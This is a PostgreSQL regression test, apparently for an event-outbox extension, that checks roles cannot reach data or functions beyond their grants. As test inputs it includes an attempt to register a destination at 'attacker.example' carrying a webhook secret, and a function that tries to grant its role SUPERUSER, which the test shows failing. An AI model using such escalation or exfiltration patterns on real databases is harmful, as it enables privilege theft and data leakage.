--
-- Outbox privileges.  An ordinary role can publish (like idem_claim, with no
-- privilege on the private schema) but cannot read events, destinations or
-- secrets, nor manage destinations or run the relay.  An operator role the
-- owner grants the destination functions can manage destinations without
-- reading secrets, and a function destination runs as the role that created
-- it, never as the relay.
--
CREATE ROLE idem_pub LOGIN;
CREATE ROLE idem_ops LOGIN;
GRANT EXECUTE ON FUNCTION idem_destination_create(text, text, text, text[], jsonb),
	idem_destination_drop(text), idem_outbox_relay(int4) TO idem_ops;
GRANT SELECT ON idem_destinations TO idem_ops;
GRANT CREATE ON SCHEMA public TO idem_ops;
CREATE TABLE ops_log (who text, topic text);
GRANT INSERT ON ops_log TO idem_ops;
CREATE FUNCTION owner_only(event jsonb) RETURNS void LANGUAGE sql AS $$ SELECT $$;
REVOKE EXECUTE ON FUNCTION owner_only(jsonb) FROM PUBLIC;

-- An ordinary role publishes, with and without a key ...
SET ROLE idem_pub;
SELECT idem_publish('app.created', '{"id": 1}', 'k1', '{"x-source": "app"}') IS NOT NULL AS published;
SELECT idem_publish('app.created', '{"id": 2}') IS NOT NULL AS published;
-- ... and reaches nothing else: 42501 for each.
SELECT * FROM idempotency.outbox;
\echo :SQLSTATE
SELECT * FROM idempotency.deliveries;
\echo :SQLSTATE
SELECT * FROM idempotency.destinations;
\echo :SQLSTATE
SELECT * FROM idem_destinations;
\echo :SQLSTATE
SELECT * FROM idem_outbox_stats;
\echo :SQLSTATE
SELECT * FROM idem_outbox_dead;
\echo :SQLSTATE
SELECT idem_destination_create('mine', 'http', 'http://attacker.example/', '{*}',
	'{"secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}');
\echo :SQLSTATE
SELECT idem_destination_alter('ops', '{}');
\echo :SQLSTATE
SELECT idem_destination_drop('ops');
\echo :SQLSTATE
SELECT idem_destination_pause('ops');
\echo :SQLSTATE
SELECT idem_destination_resume('ops');
\echo :SQLSTATE
SELECT idem_outbox_relay();
\echo :SQLSTATE
SELECT idem_outbox_cleanup();
\echo :SQLSTATE
SELECT idem_outbox_redrive('00000000-0000-0000-0000-000000000000');
\echo :SQLSTATE
SELECT idem_outbox_redrive_dead('ops');
\echo :SQLSTATE
SELECT idem_outbox_event('00000000-0000-0000-0000-000000000000');
\echo :SQLSTATE
SET idempotency.outbox_retention = 0;
\echo :SQLSTATE
SET idempotency.max_event_bytes = '1GB';
\echo :SQLSTATE
RESET ROLE;

-- The operator creates destinations; the relay calls its function as the
-- operator (current_user inside is idem_ops), even when the owner runs the
-- relay.  A function the operator may not execute cannot be a destination.
SET ROLE idem_ops;
CREATE FUNCTION public.ops_handler(event jsonb) RETURNS void LANGUAGE sql AS $$
	INSERT INTO ops_log VALUES (current_user, event->>'topic')
$$;
CREATE FUNCTION public.ops_escalate(event jsonb) RETURNS void LANGUAGE sql AS $$
	ALTER ROLE idem_ops SUPERUSER
$$;
SELECT idem_destination_create('ops', 'function', 'ops_handler(jsonb)', '{app.*}');
SELECT idem_destination_create('escalate', 'function', 'ops_escalate(jsonb)', '{app.*}',
	'{"max_attempts": 1}');
SELECT idem_destination_create('borrowed', 'function', 'owner_only(jsonb)');
\echo :SQLSTATE
SELECT idem_destination_create('hook', 'http', 'https://hooks.example.com/hook', '{none}',
	'{"secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "headers": {"Authorization": "Bearer s3cr3t"}}');
-- The operator sees the destinations, not their secrets or header values.
SELECT name, kind, target, options, header_names, secret_count FROM idem_destinations ORDER BY name;
SELECT secrets FROM idempotency.destinations;
\echo :SQLSTATE
SELECT idem_publish('app.updated', '{"id": 1}', 'k1') IS NOT NULL AS published;
SELECT idem_outbox_relay() AS attempted;
RESET ROLE;
SELECT idem_publish('app.deleted', '{"id": 1}', 'k1') IS NOT NULL AS published;
SELECT idem_outbox_relay() AS attempted;
SELECT who, topic FROM ops_log;
-- The escalating function failed as idem_ops, without effect (PostgreSQL 16
-- and later word the error differently: expected/outbox_privileges_1.out).
SELECT rolsuper FROM pg_roles WHERE rolname = 'idem_ops';
SELECT o.topic, x.state, x.last_error FROM idempotency.deliveries x
  JOIN idempotency.outbox o USING (event_id)
  JOIN idempotency.destinations d ON d.id = x.destination_id
 WHERE d.name = 'escalate' ORDER BY o.seq;

-- Revoking the operator's right to run its function makes deliveries fail;
-- nothing runs with more privileges.
REVOKE EXECUTE ON FUNCTION ops_handler(jsonb) FROM PUBLIC, idem_ops;
SELECT idem_publish('app.revoked', '{}') IS NOT NULL AS published;
SELECT idem_outbox_relay() AS attempted;
SELECT o.topic, x.state, x.attempts, x.last_error FROM idempotency.deliveries x
  JOIN idempotency.outbox o USING (event_id)
  JOIN idempotency.destinations d ON d.id = x.destination_id
 WHERE d.name = 'ops' AND o.topic = 'app.revoked';

-- Nothing in the public API is SECURITY DEFINER; idem_publish is the only
-- outbox function PUBLIC may call.
SELECT p.proname, p.prosecdef, has_function_privilege('public', p.oid, 'EXECUTE') AS public_execute
  FROM pg_proc p
 WHERE p.proname LIKE 'idem\_outbox\_%' OR p.proname LIKE 'idem\_destination\_%' OR p.proname = 'idem_publish'
 ORDER BY 1;

SELECT idem_destination_drop(name) FROM idem_destinations ORDER BY name;
TRUNCATE idempotency.outbox, idempotency.deliveries;
DROP FUNCTION ops_handler(jsonb), ops_escalate(jsonb), owner_only(jsonb);
DROP TABLE ops_log;
REVOKE CREATE ON SCHEMA public FROM idem_ops;
REVOKE ALL ON FUNCTION idem_destination_create(text, text, text, text[], jsonb),
	idem_destination_drop(text), idem_outbox_relay(int4) FROM idem_ops;
REVOKE ALL ON idem_destinations FROM idem_ops;
DROP ROLE idem_pub, idem_ops;
